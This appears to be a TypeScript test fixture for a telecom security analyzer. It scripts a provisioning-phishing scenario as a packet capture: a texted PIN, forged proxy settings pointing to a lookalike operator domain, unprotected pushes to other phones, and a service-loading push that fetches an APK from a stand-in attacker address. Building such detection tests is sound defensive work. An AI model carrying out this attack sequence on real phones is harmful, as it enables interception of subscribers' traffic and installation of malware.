// Stories for the security review: what an attack looks like beside the settings of an operator.

import { Tape } from '../../../analysis/encode/tape.ts';
import { apn, browser, characteristic, mms, provisioning, proxy, serviceLoading } from '../documents.ts';
import { Session } from '../gateway.ts';
import { keyOf } from '../keys.ts';
import { ascii } from '../octets.ts';
import { openPush, parts, protectedPush, typedPush } from '../push.ts';
import { pcapOf, type Story } from '../story.ts';

const OPERATOR = '32100';
const STRANGER = '+4915550100399';
const PHONES = ['+4915550100310', '+4915550100311', '+4915550100312', '+4915550100313', '+4915550100314'] as const;

/** All names are under a top-level domain that is reserved for examples (RFC 2606). */
const settings = (name: string, site: string, proxyAddress: string) =>
  provisioning(
    proxy('MOBILE-PX', name, proxyAddress, '8080', 'MOBILE-NAP'),
    apn('MOBILE-NAP', name, 'internet'),
    browser(name, { 'TO-PROXY': 'MOBILE-PX' }, `http://start.${site}/`),
    mms(name, { 'TO-PROXY': 'MOBILE-PX' }, `http://mms.${site}/`),
  );

const management = (site: string) =>
  provisioning(
    apn('MOBILE-NAP', 'Network service', 'internet'),
    characteristic(
      'APPLICATION',
      { APPID: 'w7', 'PROVIDER-ID': 'network-service', NAME: 'Network service', 'TO-NAPID': 'MOBILE-NAP' },
      characteristic('APPADDR', { ADDR: `http://dm.${site}/`, ADDRTYPE: 'URI' }),
      characteristic('APPAUTH', {
        AAUTHLEVEL: 'CLIENT',
        AAUTHTYPE: 'BASIC',
        AAUTHNAME: 'phone',
        AAUTHSECRET: 'example',
      }),
    ),
  );

export function phishing(): Story {
  const imsi = '001010000000310';
  const pin = '4711';
  const [victim, ...others] = PHONES;
  const genuine = settings('Example Mobile', 'mobile.example', '192.0.2.80');
  const forged = settings('Example Mobile', 'mobi1e.example', '203.0.113.99');
  const tape = new Tape('2026-11-12T18:00:00Z');
  const session = new Session(tape, 0x7700).begin();
  const deliver = (from: string, to: string, all: readonly Uint8Array[]): number => {
    const ids = session.submitParts(from, to, all);
    session.pause(1800);
    for (const id of ids) session.receipt(id, from, to, 'DELIVRD').pause(200);
    return ids.length;
  };
  const real = deliver(OPERATOR, victim, parts(protectedPush('NETWPIN', keyOf.NETWPIN(imsi), genuine), 0x41));
  session.pause(600_000).alive().pause(500);
  const text = `Example Mobile: network update. Please enter PIN ${pin} when your phone asks for it.`;
  session.submit({ from: STRANGER, to: victim, dataCoding: 0, message: ascii(text) });
  session.pause(6000);
  const pinned = deliver(STRANGER, victim, parts(protectedPush('USERPIN', keyOf.USERPIN(pin), forged), 0x42));
  session.pause(60_000);
  const open = others.map((to, i) => {
    const n = deliver('Operator', to, parts(openPush(forged), 0x50 + i));
    session.pause(2000);
    return n;
  });
  const managed = deliver('Operator', victim, parts(openPush(management('mobi1e.example')), 0x60));
  session.pause(4000);
  const load = typedPush('application/vnd.wap.slc', serviceLoading('http://203.0.113.99/update.apk'));
  deliver('Operator', victim, parts(load, 0x61));
  session.end();
  const settingsTo = (to: string, n: number) =>
    ({ kind: 'client-provisioning', state: 'complete', to, parts: [n, n] }) as const;
  return {
    id: 'phishing-evening',
    file: 'phishing-evening.pcap',
    title: 'The PIN came by text, the settings right after',
    story: `After the operator's own settings for IMSI ${imsi} a stranger texts a PIN, sends settings that fit it and move everything to a name that only looks like the operator's, and tries unprotected ones on four more phones.`,
    keys: { imsi: [imsi], pin: [pin] },
    expect: {
      messages: [
        { ...settingsTo(victim, real), method: 'NETWPIN', verdict: 'valid' },
        { ...settingsTo(victim, pinned), method: 'USERPIN', verdict: 'valid' },
        ...others.map((to, i) => ({ ...settingsTo(to, open[i] ?? 0), verdict: 'unprotected' })),
        { ...settingsTo(victim, managed), verdict: 'unprotected' },
        { kind: 'service-loading', state: 'complete', to: victim, parts: [1, 1], verdict: 'not-applicable' },
      ],
      texts: 1,
    },
    bytes: pcapOf(tape),
  };
}
